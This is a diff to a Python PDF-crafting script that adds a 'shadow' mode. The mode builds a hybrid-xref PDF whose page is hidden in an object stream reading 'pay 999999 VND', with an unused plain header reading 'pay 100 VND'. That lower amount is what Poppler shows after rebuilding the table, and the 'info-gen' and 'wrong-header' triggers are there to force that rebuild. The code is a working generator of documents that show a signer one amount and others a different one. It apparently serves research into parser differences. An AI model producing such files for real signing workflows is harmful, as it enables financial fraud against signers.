@@ -39,6 +39,13 @@ attacker's reading, 2026-12-03: "pay 100 VND" shown before signing, another text
                                                  header over an object-stream member (IN unused)
     python3 signing_inputs.py dangling-both IN OUT  the same, its /XRefStm also placing 29 in
                                                  object stream 30 (MuPDF rebuilds too)
+    python3 signing_inputs.py shadow IN OUT T    a hybrid file whose page is in an object stream
+                                                 (pay 999999 VND) with a plain header of the same
+                                                 number the table does not use (pay 100 VND: what
+                                                 Poppler rebuilding the table shows); T the
+                                                 trigger: none, info-gen (/Info 20 1 R, the table
+                                                 holding 20 0), wrong-header (the table placing
+                                                 20 at object 10's header) (IN unused)
     python3 signing_inputs.py linearized IN OUT  IN with a second page, linearized by qpdf
                                                  (pikepdf): an honest file
     python3 signing_inputs.py lin-o IN OUT       the same with /O naming the second page (Poppler
@@ -278,6 +285,44 @@ elif mode in ('objstm-past', 'dangling', 'dangling-both'):
                 t += b'%d 1\n%010d 00000 n\r\n' % (n, offs[n])
         b += t + b'trailer\n<< /Size %d /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n' % (
             size, xs, x)
+    open(out, 'wb').write(bytes(b))
+elif mode == 'shadow':
+    import struct
+    trigger = sys.argv[4]
+    size = 21
+    b, offs = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'), {}
+
+    def stream(content, extra=b''):
+        return b'<< /Length %d %s >>\nstream\n%s\nendstream' % (len(content), extra, content)
+
+    def put(n, body, listed=True):
+        if listed:
+            offs[n] = len(b)
+        b.extend(b'%d 0 obj\n%s\nendobj\n' % (n, body))
+
+    page = (b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] '
+            b'/Resources << /Font << /F1 5 0 R >> >> /Contents %d 0 R >>')
+    put(1, b'<< /Type /Catalog /Pages 2 0 R >>')
+    put(2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
+    put(3, page % 10, listed=False)
+    put(5, b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>')
+    put(10, stream(b'BT /F1 24 Tf 72 700 Td (pay 100 VND) Tj ET'))
+    put(11, stream(b'BT /F1 24 Tf 72 700 Td (pay 999999 VND) Tj ET'))
+    if trigger != 'wrong-header':
+        put(20, b'<< /Producer (a writer) >>')
+    index = b'3 0 '.ljust(8)
+    put(7, stream(index + page % 11, b'/Type /ObjStm /N 1 /First %d' % len(index)))
+    xs = len(b)
+    put(9, stream(struct.pack('>BIH', 2, 7, 0), b'/Type /XRef /W [1 4 2] /Size %d /Index [3 1]' % size))
+    if trigger == 'wrong-header':
+        offs[20] = offs[10]
+    x = len(b)
+    t = b'xref\n0 1\n0000000000 65535 f\r\n'
+    for n in sorted(offs):
+        t += b'%d 1\n%010d 00000 n\r\n' % (n, offs[n])
+    info = b'/Info 20 1 R' if trigger == 'info-gen' else b'/Info 20 0 R'
+    b += t + b'trailer\n<< /Size %d /Root 1 0 R %s /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n' % (
+        size, info, xs, x)
     open(out, 'wb').write(bytes(b))
 elif mode == 'streampage':
     root_num = int(re.findall(rb'/Root\s+(\d+)\s+0\s+R', src)[-1])
